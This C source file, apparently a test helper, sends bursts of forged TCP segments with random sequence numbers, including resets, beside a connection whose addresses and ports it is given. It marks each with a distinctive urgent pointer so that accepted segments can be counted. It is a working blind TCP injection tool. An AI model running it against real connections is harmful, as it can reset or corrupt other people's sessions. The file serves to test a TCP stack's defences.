// SPDX-License-Identifier: GPL-2.0-only
/*
 * Sends segments beside a connection, as somebody does who knows its addresses and ports but not
 * its numbers, and prints how many.
 *
 *	attack 4|6 FROM SPORT TO DPORT BURSTS PAUSE_MS
 *
 * A burst has each kind of segment several times, with random numbers and windows. All of them have
 * the urgent pointer 48879, which no other segment has.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <error.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "wire/random.h"
#include "wire/segment.h"

#define USAGE	"attack 4|6 FROM SPORT TO DPORT BURSTS PAUSE_MS"

/* Few resets: one without ACK has but one number to guess, and is in the window once in 30,000. */
static const struct {
	u8 flags;
	u32 len;
	int times;
} kinds[] = {
	{ TH_ACK, 0, 8 }, { TH_ACK | TH_PUSH, 100, 8 }, { TH_ACK | TH_PUSH, 1, 8 },
	{ TH_ACK | TH_FIN, 0, 8 }, { TH_ACK | TH_FIN, 100, 8 }, { TH_ACK | TH_URG, 0, 8 },
	{ TH_SYN | TH_ACK, 0, 8 }, { TH_RST | TH_ACK, 0, 2 }, { TH_RST, 0, 1 },
};

static int open_raw(int family)
{
	int fd = socket(family == 4 ? AF_INET : AF_INET6, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0)
		error(2, errno, "a raw socket");
	return fd;
}

static void send_one(int fd, const struct wire_segment *seg)
{
	struct sockaddr_in6 v6 = { .sin6_family = AF_INET6 };
	struct sockaddr_in v4 = { .sin_family = AF_INET };
	static struct wire_packet packet;
	const void *to = seg->family == 4 ? (const void *)&v4 : &v6;
	const socklen_t size = seg->family == 4 ? sizeof(v4) : sizeof(v6);

	memcpy(&v4.sin_addr, seg->to, sizeof(v4.sin_addr));
	memcpy(&v6.sin6_addr, seg->to, sizeof(v6.sin6_addr));
	wire_build(&packet, seg);
	if (sendto(fd, packet.ip, packet.len, 0, to, size) < 0)
		error(2, errno, "cannot send");
}

static unsigned long burst(int fd, struct wire_segment *seg)
{
	unsigned long sent = 0;
	size_t kind;
	int i;

	for (kind = 0; kind < sizeof(kinds) / sizeof(*kinds); kind++) {
		for (i = 0; i < kinds[kind].times; i++, sent++) {
			seg->flags = kinds[kind].flags;
			seg->len = kinds[kind].len;
			seg->seq = wire_random();
			seg->ack = wire_random();
			seg->window = wire_random();
			send_one(fd, seg);
		}
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct wire_segment seg = { .protocol = IPPROTO_TCP, .urgent = 48879 };
	unsigned long sent = 0;
	int fd, bursts;

	if (argc != 8)
		error(2, 0, "%s", USAGE);
	seg.family = atoi(argv[1]);
	if (inet_pton(seg.family == 4 ? AF_INET : AF_INET6, argv[2], seg.from) != 1 ||
	    inet_pton(seg.family == 4 ? AF_INET : AF_INET6, argv[4], seg.to) != 1)
		error(2, 0, "%s", USAGE);
	seg.sport = atoi(argv[3]);
	seg.dport = atoi(argv[5]);
	wire_seed(seg.sport);
	fd = open_raw(seg.family);
	for (bursts = atoi(argv[6]); bursts > 0; bursts--) {
		sent += burst(fd, &seg);
		usleep(atoi(argv[7]) * 1000);
	}
	printf("%lu\n", sent);
	return 0;
}
